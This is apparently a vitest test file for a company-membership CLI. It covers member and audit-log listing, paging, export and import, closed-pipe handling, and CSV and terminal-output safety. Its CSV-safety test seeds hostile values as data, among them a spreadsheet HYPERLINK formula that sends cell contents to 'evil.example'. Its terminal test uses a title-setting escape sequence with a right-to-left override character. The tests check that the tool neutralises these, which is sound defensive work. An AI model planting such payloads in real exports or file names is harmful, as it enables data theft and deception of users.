import { LATEST_VERSION } from '../../src/store/migrations/index.js';
import { execa } from 'execa';
import { describe, expect, it } from 'vitest';
import { BIN, engines, useStore, type TestStore, type User } from './harness.js';

type Member = { email: string; firstName: string | null; lastName: string | null; role: string; status: string };

/**
 * Zed (an e-mail that sorts last: the OWNER still comes first) is platform staff and
 * owns "Zed Company" on the unlimited ENTERPRISE plan, filled by direct SQL with
 * `registered` accounts and `pending` invitations whose e-mails interleave.
 */
async function bigCompany(
  t: TestStore,
  registered: number,
  pending: number,
  o: Parameters<TestStore['fillCompany']>[1] = {},
) {
  const zed = await t.seed('zed@example.com', 'Zed', 'Zed');
  await zed.grantStaff('zed@example.com');
  const id = (await zed.json(['account', 'show'])).currentCompany.id as number;
  await zed.setPlan(String(id), 'ENTERPRISE');
  const total = registered + pending;
  // A permutation of 0..total-1 (37 is prime to total): accounts and invitations interleave in e-mail order.
  const emails = await t.fillCompany(id, {
    registered,
    pending,
    email: (i) => `p${String((i * 37) % total).padStart(6, '0')}@example.com`,
    ...o,
  });
  return { zed, id, emails, registered };
}

/** A bash script run once: the statuses and stderr sizes of many `platformctl … | head` pipelines. */
async function pipelines(t: TestStore, user: User, runs: [name: string, args: string, times: number][]) {
  const base = `node '${BIN}' --store '${t.store}' --config-dir '${user.configDir}'`;
  const script = runs
    .map(
      ([name, args, times]) =>
        `for i in $(seq ${times}); do ${base} ${args} 2>"$T/err" | head -1 >/dev/null; echo "${name} \${PIPESTATUS[0]} $(wc -c < "$T/err")"; done`,
    )
    .join('\n');
  const out = await execa('bash', ['-c', `unset PLATFORMCTL_TOKEN PLATFORMCTL_STORE PLATFORMCTL_DEBUG\n${script}`], {
    env: { T: t.dir },
    extendEnv: true,
    reject: false,
    timeout: 120_000,
  });
  expect(out.exitCode, out.stderr).toBe(0);
  return out.stdout
    .trim()
    .split('\n')
    .map((l) => {
      const [name, status, errBytes] = l.split(' ');
      return { name: name!, status: Number(status), errBytes: Number(errBytes) };
    });
}

describe.each(engines())('lists on %s', (engine) => {
  const fresh = useStore(engine);

  it('member list pages through a company larger than a page: the OWNER first, then e-mail order, filtered in SQL, one JSON document; --limit and --after continue', async () => {
    const t = await fresh();
    const { zed, emails, registered } = await bigCompany(t, 300, 2200);
    const order = ['zed@example.com', ...[...emails].sort()];
    const isRegistered = new Map(emails.map((e, i) => [e, i < registered]));

    const json = await zed.run(['--json', 'member', 'list']);
    expect(json.exitCode, json.stderr).toBe(0);
    expect(json.stderr).toBe('');
    const all = JSON.parse(json.stdout) as Member[];
    expect(all.map((m) => m.email)).toEqual(order);
    expect(all[0]).toEqual({
      email: 'zed@example.com',
      firstName: 'Zed',
      lastName: 'Zed',
      role: 'OWNER',
      status: 'ACTIVE',
    });
    for (const m of all.slice(1)) {
      // Names are listed once a member has accepted (ACTIVE); INVITED ones show none.
      if (isRegistered.get(m.email) && m.status === 'ACTIVE') expect(m.firstName, m.email).toMatch(/^Name\d+$/);
      else if (isRegistered.get(m.email)) expect(m, m.email).toMatchObject({ firstName: null, status: 'INVITED' });
      else expect(m, m.email).toMatchObject({ firstName: null, lastName: null, status: 'PENDING' });
    }

    // Piped table and CSV: everyone (scripts get everything), in the same order.
    const [table, csv] = await Promise.all([zed.run(['member', 'list']), zed.run(['member', 'list', '--csv'])]);
    expect(
      table.stdout
        .trimEnd()
        .split('\n')
        .map((l) => l.split('\t')[0]),
    ).toEqual(order);
    expect(table.stderr).toBe('');
    expect(csv.stdout.split('\n')).toEqual(['email,firstName,lastName,role,status', ...all.map(csvOf)]);

    // Filters are applied in SQL, order kept.
    const only = async (...args: string[]) =>
      (await zed.json<Member[]>(['member', 'list', ...args])).map((m) => m.email);
    expect(await only('--role', 'administrator')).toEqual(
      all.filter((m) => m.role === 'ADMINISTRATOR').map((m) => m.email),
    );
    expect(await only('--status', 'PENDING')).toEqual(all.filter((m) => m.status === 'PENDING').map((m) => m.email));
    expect(await only('--role', 'MANAGER', '--status', 'invited')).toEqual(
      all.filter((m) => m.role === 'MANAGER' && m.status === 'INVITED').map((m) => m.email),
    );
    expect(await only('--role', 'OWNER')).toEqual(['zed@example.com']);

    // --limit and --after: consecutive pages cover everyone exactly once.
    const pages: string[] = [];
    let after: string | undefined;
    for (let i = 0; i < 10; i++) {
      const page = await only('--limit', '900', ...(after ? ['--after', after] : []));
      if (page.length === 0) break;
      pages.push(...page);
      after = page[page.length - 1];
    }
    expect(pages).toEqual(order);
    // --after the OWNER (the first row) continues with everyone else from the start.
    expect(await only('--limit', '1')).toEqual(['zed@example.com']);
    expect(await only('--limit', '2', '--after', 'ZED@example.com')).toEqual(order.slice(1, 3));
    // A limited table says how many more there are and how to continue (stderr, not stdout).
    const limited = await zed.run(['member', 'list', '--limit', '3']);
    expect(limited.stdout.trimEnd().split('\n')).toHaveLength(3);
    expect(limited.stderr).toBe(
      `… and ${(order.length - 3).toLocaleString('en-US')} more members: add --after ${order[2]} for the next 3, or --all for every one.`,
    );
    expect((await zed.run(['member', 'list', '--limit', '0'])).exitCode).toBe(2);
    expect((await zed.run(['member', 'list', '--limit', '5', '--all'])).exitCode).toBe(2);
  });

  it('member export streams every row in list order, and export → import changes nothing', async () => {
    const t = await fresh();
    const { zed, id, emails } = await bigCompany(t, 200, 1900);
    const out = await zed.run(['member', 'export']);
    expect(out.exitCode, out.stderr).toBe(0);
    const lines = out.stdout.trimEnd().split('\n');
    expect(lines[0]).toBe('email,role,company');
    expect(lines.slice(1).map((l) => l.split(',')[0])).toEqual(['zed@example.com', ...[...emails].sort()]);
    expect(lines.every((l, i) => i === 0 || l.endsWith(`,${id}`))).toBe(true);
    expect(await zed.json(['member', 'import', '-'], { input: out.stdout })).toMatchObject({
      invited: 0,
      updated: 0,
      unchanged: emails.length + 1,
      failed: 0,
    });
    const jsonl = await zed.run(['member', 'export', '--format', 'jsonl']);
    expect(
      jsonl.stdout
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l).email),
    ).toEqual(lines.slice(1).map((l) => l.split(',')[0]));
  });

  it('writing into a closed pipe ends quietly with status 141: no stack trace, nothing on stderr, for every command and both streams', async () => {
    const t = await fresh();
    const { zed, id } = await bigCompany(t, 100, 2900);
    // Enough audit entries for the output to outgrow a pipe's buffer.
    await t.write((tx) =>
      tx.run(
        `INSERT INTO audit_log (at, actor_email, company_id, company_name, action, target, details)
         SELECT :at, 'zed@example.com', :c, 'Zed Company', 'member.invite', value, '{"role":"DESIGNER"}' FROM json_each(:rows)`,
        {
          at: new Date().toISOString(),
          c: id,
          rows: JSON.stringify(Array.from({ length: 2000 }, (_, i) => `x${i}@example.com`)),
        },
      ),
    );
    const results = await pipelines(t, zed, [
      ['export', 'member export', 5],
      ['list', 'member list', 5],
      ['json', '--json member list', 2],
      ['audit', 'audit list', 2],
      ['both', 'member list 2>&1', 2],
      ['show', 'account show', 2],
    ]);
    expect(results).toHaveLength(18);
    for (const r of results) {
      expect(r.errBytes, `${r.name}: stderr`).toBe(0);
      // account show's few lines may all fit in the pipe before head exits: then 0.
      if (r.name === 'show') expect([0, 141], r.name).toContain(r.status);
      else expect(r.status, r.name).toBe(141);
    }

    // stderr closed before the first message: the same quiet 141 (the change itself was committed first).
    const child = execa(
      'node',
      [
        BIN,
        '--store',
        t.store,
        '--config-dir',
        zed.configDir,
        'member',
        'invite',
        'new@example.com',
        '--role',
        'MANAGER',
      ],
      {
        stdout: 'ignore',
        stderr: 'pipe',
        reject: false,
      },
    );
    child.stderr.destroy();
    const closed = await child;
    expect(closed.exitCode).toBe(141);
    const pending = await zed.json<Member[]>(['member', 'list', '--status', 'PENDING', '--role', 'MANAGER']);
    expect(pending.map((m) => m.email)).toContain('new@example.com');
  });
});

/** A member as `member list --csv` writes it (the values here need no quoting). */
function csvOf(m: Member): string {
  return [m.email, m.firstName ?? '', m.lastName ?? '', m.role, m.status].join(',');
}

describe.each(engines())('large lists on %s', (engine) => {
  const fresh = useStore(engine);

  // On sqld the company must be bigger than one answer may be (10 MB): 60,000 members with
  // long names. A local file has no such limit; there the same checks run on 6,000 (the
  // 1,000,000-member runs are the benchmark's: scripts/bench/lists.mjs).
  const total = engine === 'libsql' ? 60_000 : 6_000;
  it(`a company of ${total.toLocaleString('en')} members with long names lists, filters and exports (on sqld: no response-size failure)`, async () => {
    const t = await fresh();
    const long = (i: number) => `${'Long'.repeat(24)}${String(i).padStart(4, '0')}`.slice(-100);
    const { zed } = await bigCompany(t, total / 3, total - total / 3, {
      email: (i) => `${'a.very.long.mailbox.name'.repeat(2)}.${String((i * 37) % total).padStart(6, '0')}@example.com`,
      name: long,
      lastName: long,
    });
    if (engine === 'libsql') {
      // The company as one response is over sqld's limit: one query for the whole list fails.
      const whole = t.query((r) =>
        r.tx.all(`SELECT m.email, u.first_name, u.last_name, m.role, m.status FROM memberships m
                  JOIN users u ON u.id = m.user_id WHERE m.company_id = (SELECT id FROM companies WHERE name = 'Zed Company')
                  UNION ALL SELECT email, NULL, NULL, role, 'PENDING' FROM invitations`),
      );
      await expect(whole).rejects.toThrow(/larger than its limit \(sqld's --max-response-size/);
    }
    const list = await zed.run(['--json', 'member', 'list']);
    expect(list.exitCode, list.stderr).toBe(0);
    const members = JSON.parse(list.stdout) as Member[];
    expect(members).toHaveLength(total + 1);
    // The 8th account is ACTIVE (fillCompany alternates ACTIVE and INVITED): its name is listed.
    expect(members.filter((m) => m.firstName === long(8) && m.lastName === long(8))).toHaveLength(1);
    const admins = await zed.run(['--json', 'member', 'list', '--role', 'ADMINISTRATOR']);
    expect(admins.exitCode, admins.stderr).toBe(0);
    expect(JSON.parse(admins.stdout)).toHaveLength(total / 3);
    const out = await zed.run(['member', 'export']);
    expect(out.exitCode, out.stderr).toBe(0);
    expect(out.stdout.split('\n')).toHaveLength(total + 2);
  });
});

/** Cells a spreadsheet would run as a formula (OWASP), and their full-width forms. */
const FORMULA = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/u;

describe.each(engines())('CSV safety on %s', (engine) => {
  const fresh = useStore(engine);

  it('cells a spreadsheet would run are neutralised in every CSV, and export → import is exact for hostile values', async () => {
    const t = await fresh();
    const { parse } = await import('csv-parse/sync');
    const { restoreCell } = await import('../../src/csv-cells.js');
    const [ann, bob, evil] = await Promise.all([
      t.seed('ann@example.com', 'Ann', 'Smith'),
      t.seed('bob@example.com', 'Bob', 'Jones'),
      t.seed('=reg@example.com', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+SUM(1,2)'),
    ]);
    await ann.grantStaff('ann@example.com');
    const smith = (await ann.json(['account', 'show'])).currentCompany.id as number;
    const jones = (await bob.json(['account', 'show'])).currentCompany.id as number;
    for (const c of [smith, jones]) await ann.setPlan(String(c), 'ENTERPRISE');
    const hostile = [
      '=cmd@example.com',
      '+1@example.com',
      '-x@example.com',
      "'quote@example.com",
      "'=y@example.com",
      "''@example.com",
      "'@example.com",
      '=reg@example.com',
    ];
    const inv = await ann.run(['member', 'invite', '--role', 'DESIGNER', '--', ...hostile]);
    expect(inv.exitCode, inv.stderr).toBe(0);
    // The registered one accepts: a member's name is listed once they are ACTIVE.
    expect((await evil.run(['company', 'switch', 'Smith Company'])).exitCode).toBe(0);
    // A stored name may hold what validation refuses today (an older store): a leading tab.
    await t.write((tx) => tx.run(`UPDATE users SET last_name = :n WHERE email = '=reg@example.com'`, { n: '\t=1+1' }));

    const stored = await ann.json<Member[]>(['member', 'list']);
    const list = await ann.run(['member', 'list', '--csv']);
    expect(list.exitCode, list.stderr).toBe(0);
    const rows = parse(list.stdout);
    expect(rows[0]).toEqual(['email', 'firstName', 'lastName', 'role', 'status']);
    for (const cell of rows.slice(1).flat()) expect(cell, cell).not.toMatch(FORMULA);
    // Undoing the quoting gives back exactly what is stored.
    expect(rows.slice(1).map((r) => r.map(restoreCell))).toEqual(
      stored.map((m) => [m.email, m.firstName ?? '', m.lastName ?? '', m.role, m.status]),
    );
    expect(list.stdout).toContain(
      // (the last row: the harness strips stdout's final newline)
      `'=reg@example.com,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'\t=1+1,DESIGNER,ACTIVE`,
    );

    const exported = await ann.run(['member', 'export']);
    const cells = parse(exported.stdout);
    for (const cell of cells.slice(1).flat()) expect(cell, cell).not.toMatch(FORMULA);
    // Back into the same company: every row matches exactly what is there.
    expect(await ann.json(['member', 'import', '-'], { input: exported.stdout })).toMatchObject({
      invited: 0,
      updated: 0,
      unchanged: hostile.length + 1,
      failed: 0,
    });
    // Into another company (SUPPORT may): the same e-mails arrive, byte for byte.
    const moved = exported.stdout.replace(new RegExp(`,${smith}$`, 'gm'), `,${jones}`);
    const into = await ann.run(['--json', 'member', 'import', '-', '--continue-on-error'], { input: moved });
    expect(JSON.parse(into.stdout)).toMatchObject({ invited: hostile.length, failed: 1 }); // ann's OWNER row
    const there = await bob.json<Member[]>(['member', 'list']);
    expect(there.map((m) => m.email).sort()).toEqual(['bob@example.com', ...hostile].sort());
  });
});

describe.each(engines())('terminal text on %s', (engine) => {
  const fresh = useStore(engine);

  it('store paths holding ESC, OSC and U+202E are shown escaped in store init and store backup messages', async () => {
    const t = await fresh();
    const evil = 'evil\x1b]0;pwned\x07\u202egpj.db';
    const escaped = 'evil\\u{1b}]0;pwned\\u{7}\\u{202e}gpj.db';
    if (engine === 'local') {
      const init = await t.run(['--store', `${t.dir}/${evil}`, 'store', 'init']);
      expect(init.exitCode, init.stderr).toBe(0);
      expect(init.stderr).toBe(
        `✓ Store ${t.dir}/${escaped} is ready (schema version ${LATEST_VERSION}, migrated from 0).`,
      );
    }
    expect((await t.run(['store', 'init'])).exitCode).toBe(0); // the store the harness checks and backs up
    const backup = await t.run(['store', 'backup', `${t.dir}/${evil}.bak`]);
    expect(backup.exitCode, backup.stderr).toBe(0);
    expect(backup.stderr).toMatch(/^✓ Backed up \S+ to /);
    expect(backup.stderr.endsWith(` to ${t.dir}/${escaped}.bak.`)).toBe(true);
    expect(backup.stderr).not.toMatch(/[\x1b\x07\u202e]/);
  });
});

type Entry = {
  id: number;
  at: string;
  actor: string | null;
  company: { id: number; name: string | null } | null;
  action: string;
  target: string | null;
  details: Record<string, unknown> | null;
  run: number | null;
};

describe.each(engines())('audit list on %s', (engine) => {
  const fresh = useStore(engine);

  it('streams every match when piped, filters by time, action and run, continues with --before, and exports CSV and JSON Lines', async () => {
    const t = await fresh();
    const [ann, zed] = await Promise.all([t.seed('ann@example.com', 'Ann', 'Smith'), t.seed('zed@example.com')]);
    await zed.grantStaff('zed@example.com');
    const smith = (await ann.json(['account', 'show'])).currentCompany.id as number;
    const created = (await t.query((r) => r.companyById(smith)))!.created_at;
    // 1,200 entries an hour apart, after the company was created; the first 300 belong to bulk run 7.
    const base = Date.parse(created) + 1000;
    const actions = ['member.invite', 'member.set_role', 'company.rename'];
    await t.write((tx) =>
      tx.run(
        `INSERT INTO audit_log (at, actor_email, company_id, company_name, action, target, details, run_id)
         SELECT value ->> 0, value ->> 1, :c, 'Smith Company', value ->> 2, value ->> 3, value ->> 4, value ->> 5 FROM json_each(:rows)`,
        {
          c: smith,
          rows: JSON.stringify(
            Array.from({ length: 1200 }, (_, i) => [
              new Date(base + i * 3_600_000).toISOString(),
              i % 2 ? 'ann@example.com' : 'bob@example.com',
              actions[i % 3],
              `p${i}@example.com`,
              JSON.stringify({ i, note: '=1+1' }),
              i < 300 ? 7 : null,
            ]),
          ),
        },
      ),
    );
    // A deleted company's entries under the same id (a store migrated from schema 1), older than Smith Company.
    await t.write((tx) =>
      tx.run(
        `INSERT INTO audit_log (at, actor_email, company_id, company_name, action, target)
         VALUES ('2001-01-01T00:00:00.000Z', 'old@example.com', :c, 'Deleted Co', 'member.remove', 'secret@example.com')`,
        { c: smith },
      ),
    );

    const all = await ann.json<Entry[]>(['audit', 'list']);
    expect(all).toHaveLength(1201); // + her own account.register
    expect(all.map((e) => e.id)).toEqual([...all.map((e) => e.id)].sort((a, b) => b - a));
    expect(all.some((e) => e.company?.name === 'Deleted Co')).toBe(false);
    expect(all[0]).toMatchObject({ company: { id: smith, name: 'Smith Company' }, details: { i: 1199 }, run: null });
    // SUPPORT sees every entry of that id, the deleted company's with the name it had.
    const support = await zed.json<Entry[]>(['audit', 'list', '--company', String(smith)]);
    expect(support).toHaveLength(1202);
    expect(support.find((e) => e.actor === 'old@example.com')).toMatchObject({
      company: { id: smith, name: 'Deleted Co' },
      actor: 'old@example.com',
    });

    // Piped table: every entry too (scripts get everything), ISO times.
    const piped = await ann.run(['audit', 'list']);
    expect(piped.stdout.split('\n')).toHaveLength(1201);
    expect(piped.stdout.split('\n')[0]!.split('\t')[0]).toBe(all[0]!.at);

    // Filters.
    const ids = async (...args: string[]) => (await ann.json<Entry[]>(['audit', 'list', ...args])).map((e) => e.id);
    const since = new Date(base + 100 * 3_600_000).toISOString();
    const until = new Date(base + 200 * 3_600_000).toISOString();
    const [window, group, one, run7, bobCompany, badAction, badUntil] = await Promise.all([
      ids('--since', since, '--until', until),
      ids('--action', 'member'),
      ids('--action', 'member.set_role'),
      ids('--run', '7'),
      ids('--actor', 'bob@example.com', '--action', 'company'),
      ann.run(['audit', 'list', '--action', 'member;drop']),
      ann.run(['audit', 'list', '--until', 'tomorrow']),
    ]);
    expect(window).toEqual(all.filter((e) => e.at >= since && e.at < until).map((e) => e.id));
    expect(window).toHaveLength(100);
    expect(group).toEqual(all.filter((e) => e.action.startsWith('member.')).map((e) => e.id));
    expect(one).toEqual(all.filter((e) => e.action === 'member.set_role').map((e) => e.id));
    expect(run7).toEqual(all.filter((e) => e.run === 7).map((e) => e.id));
    expect(run7).toHaveLength(300);
    expect(bobCompany).toEqual(
      all.filter((e) => e.actor === 'bob@example.com' && e.action === 'company.rename').map((e) => e.id),
    );
    expect(badAction.exitCode).toBe(2);
    expect(badUntil.exitCode).toBe(2);

    // --limit and --before: pages that continue where the last ended.
    const seen: number[] = [];
    let before: number | undefined;
    for (;;) {
      const page = await ids('--limit', '450', ...(before ? ['--before', String(before)] : []));
      if (!page.length) break;
      seen.push(...page);
      before = page[page.length - 1];
    }
    expect(seen).toEqual(all.map((e) => e.id));
    const limited = await ann.run(['audit', 'list', '--limit', '5']);
    expect(limited.stdout.split('\n')).toHaveLength(5);
    expect(limited.stderr).toBe(
      `… and 1,196 more entries: add --before ${all[4]!.id} for the next 5, or --all for every one.`,
    );

    // Exports that stream: CSV (one writer, formulas neutralised) and JSON Lines.
    const { parse } = await import('csv-parse/sync');
    const csv = await ann.run(['audit', 'list', '--format', 'csv', '--run', '7']);
    expect(csv.exitCode, csv.stderr).toBe(0);
    const rows = parse(csv.stdout);
    expect(rows[0]).toEqual(['id', 'at', 'actor', 'company_id', 'company_name', 'action', 'target', 'details', 'run']);
    expect(rows).toHaveLength(301);
    const e = all.find((x) => x.id === Number(rows[1]![0]))!;
    expect(rows[1]).toEqual([
      String(e.id),
      e.at,
      e.actor,
      String(smith),
      'Smith Company',
      e.action,
      e.target,
      JSON.stringify(e.details),
      '7',
    ]);
    const jsonl = await ann.run(['audit', 'list', '--format', 'jsonl']);
    expect(jsonl.stdout.split('\n').map((l) => JSON.parse(l) as Entry)).toEqual(all);
    expect((await ann.run(['--json', 'audit', 'list', '--format', 'csv'])).exitCode).toBe(2);
  });
});
